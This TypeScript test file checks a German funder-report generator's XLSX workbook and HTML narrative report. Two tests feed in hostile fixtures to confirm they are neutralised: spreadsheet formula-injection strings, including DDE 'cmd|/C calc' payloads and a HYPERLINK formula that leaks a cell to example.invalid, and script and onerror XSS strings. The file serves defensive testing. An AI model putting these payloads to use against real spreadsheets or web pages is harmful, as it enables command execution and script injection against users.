import ExcelJS from 'exceljs';
import { fixedClock } from '../../src/clock';
import { createCore } from '../../src/core';
import type { FunderReport } from '../../src/report/report-types';
import { renderSachbericht } from '../../src/report/sachbericht';
import { renderWorkbook } from '../../src/report/xlsx';
import { backends, freshStore, type TestStore } from '../helpers/stores';
import { actorFor } from '../helpers/fixtures';
import {
	buildReportFixture,
	fixtureClock,
	fixturePeriod,
	fixtureProfile,
} from '../helpers/report-fixture';

describe.each(backends)('funder report files on %s', (backend) => {
	let t: TestStore;
	let report: FunderReport;

	beforeAll(async () => {
		t = await freshStore(backend);
		const profile = fixtureProfile();
		const core = createCore({ store: t.store, profile, clock: fixedClock(fixtureClock) });
		await buildReportFixture(core, profile);
		report = await core.funderReport(actorFor(profile, 'em-koordination'), {
			period: fixturePeriod,
		});
	});
	afterAll(() => t.dispose());

	it('writes an XLSX whose sheet "Auswertung Zeitraum" has one column per manager and a total, read back with exceljs', async () => {
		const workbook = new ExcelJS.Workbook();
		await workbook.xlsx.load((await renderWorkbook(report)) as unknown as ArrayBuffer);
		expect(workbook.worksheets.map((w) => w.name)).toEqual([
			'Auswertung Zeitraum',
			'nach Träger',
			'nach Gemeinde',
			'Erläuterungen',
		]);
		const sheet = workbook.getWorksheet('Auswertung Zeitraum');
		if (!sheet) throw new Error('sheet missing');
		expect(sheet.getCell('A3').value).toBe('Zeitraum: 1. Quartal 2026 (01.01.2026 – 31.03.2026)');
		const header = (sheet.getRow(6).values as unknown[]).slice(1);
		expect(header[0]).toBe('Kennzahl');
		expect(header).toHaveLength(23 + 2);
		expect(header[header.length - 1]).toBe('Gesamt');
		const timoColumn = header.indexOf('Timo Quast') + 1;
		expect(sheet.getRow(7).getCell(timoColumn).value).toBe(
			'Caritasverband für den Landkreis Emmendingen e.V.',
		);
		const rowOf = (label: string) => {
			let found: ExcelJS.Row | undefined;
			sheet.eachRow((row) => {
				if (!found && row.getCell(1).value === label) found = row;
			});
			if (!found) throw new Error(`row ${label} missing`);
			return found;
		};
		const total = header.length;
		expect(rowOf('Beratene Personen im Zeitraum').getCell(total).value).toBe(13);
		expect(rowOf('Beratene Personen im Zeitraum').getCell(timoColumn).value).toBe(7);
		expect(rowOf('davon minderjährig').getCell(total).value).toBe(4);
		expect(rowOf('Telefon').getCell(total).value).toBe(1);
		const share = rowOf('Anteil beendeter Fälle mit eigenem Mietvertrag').getCell(total);
		expect(share.value).toBeCloseTo(1 / 3, 10);
		expect(share.numFmt).toBe('0.0%');
		expect(rowOf('Betreuungsquote').getCell(timoColumn).value).toBeNull();
		const byMunicipality = workbook.getWorksheet('nach Gemeinde');
		expect((byMunicipality?.getRow(6).values as unknown[]).includes('Waldkirch, Stadt')).toBe(true);
	});

	it('writes names and labels that look like formulas as text no spreadsheet evaluates', async () => {
		const hostile = structuredClone(report);
		hostile.name = '=HYPERLINK("https://example.invalid/?"&A2;"Bericht")';
		hostile.district.funder = '\t=1+1';
		hostile.groups.manager[0].name = "+cmd|'/C calc'!A0";
		hostile.groups.organisation[0].name = "@SUM(1+1)*cmd|'/C calc'!A0";
		hostile.groups.municipality[0].name = '\r=2+5';
		hostile.rows[0].label = '-2+3';
		hostile.rows[0].periodRule = '＝1+1';
		const workbook = new ExcelJS.Workbook();
		await workbook.xlsx.load((await renderWorkbook(hostile)) as unknown as ArrayBuffer);
		const texts: string[] = [];
		workbook.eachSheet((sheet) =>
			sheet.eachRow((row) =>
				row.eachCell((cell) => {
					expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
					if (typeof cell.value === 'string') texts.push(cell.value);
				}),
			),
		);
		expect(texts.filter((text) => /^[=+\-@\t\r\n＝＋－＠]/.test(text))).toEqual([]);
		// (XML turns the carriage return into a line feed when the file is read.)
		expect(texts).toEqual(
			expect.arrayContaining([
				`'${hostile.name}`,
				`'${hostile.groups.manager[0].name}`,
				`'${hostile.groups.organisation[0].name}`,
				"'\n=2+5",
				"'-2+3",
				"'＝1+1",
			]),
		);
		// Text that does not start like a formula stays as it is.
		expect(texts).toContain('Zeitraum: 1. Quartal 2026 (01.01.2026 – 31.03.2026)');
		expect(texts.some((text) => text.startsWith('Zuwendungsempfänger: \t=1+1'))).toBe(true);
	});

	it('escapes what the Sachbericht embeds (names from the profile) as HTML', () => {
		const hostile = structuredClone(report);
		hostile.district.funder = '<script>alert(1)</script>';
		hostile.groups.organisation[0].name = '<img src=x onerror=alert(2)>';
		const html = renderSachbericht(hostile);
		expect(html).not.toMatch(/<script>alert|<img src=x/);
		expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
		expect(html).toContain('&lt;img src&#x3D;x onerror&#x3D;alert(2)&gt;');
	});

	it('fills the Sachbericht draft with the figures, in German', () => {
		const html = renderSachbericht(report);
		expect(html).toContain(
			'<strong>Berichtszeitraum:</strong> 1. Quartal 2026 (01.01.2026 – 31.03.2026)',
		);
		expect(html).toContain(
			'wurden 13 Personen in 7 Haushalten beraten, davon 4 Minderjährige und 9 Volljährige',
		);
		expect(html).toContain(
			'Die Betreuungsquote (beratene Personen je berechtigter Person in den Gemeinden mit bekannter Zahl) lag bei 35,0\u00a0% (7 von 20)',
		);
		expect(html).toContain(
			'3 Fälle wurden im Berichtszeitraum beendet, 1 davon mit eigenem Mietvertrag (33,3\u00a0%)',
		);
		expect(html).toContain(
			'44,4\u00a0% Deutschkenntnisse auf dem Niveau B1 oder höher (4 Personen)',
		);
		expect(html).toContain('3 Beratungskontakte:\npersönlich 2; Telefon 1.');
		expect(html).toContain('von 3 Träger(n) mit 23 Integrationsmanager*innen');
	});

	it('fills a district’s own template and names an unknown figure instead of leaving it blank', () => {
		expect(
			renderSachbericht(
				report,
				'Kontakte: {{wert "contacts"}}; {{#each (teile "closures_by_reason")}}{{#if anzahl}}{{label}}={{wert}} {{/if}}{{/each}}',
			),
		).toBe(
			'Kontakte: 3; selbständig (nutzt die Regeldienste eigenständig)=1 Kontaktabbruch=1 auf Wunsch der Person=1 ',
		);
		expect(() => renderSachbericht(report, '{{wert "contact"}}')).toThrow(
			'Die Kennzahl „contact“ gibt es in der Berichtsdefinition nicht',
		);
	});
});
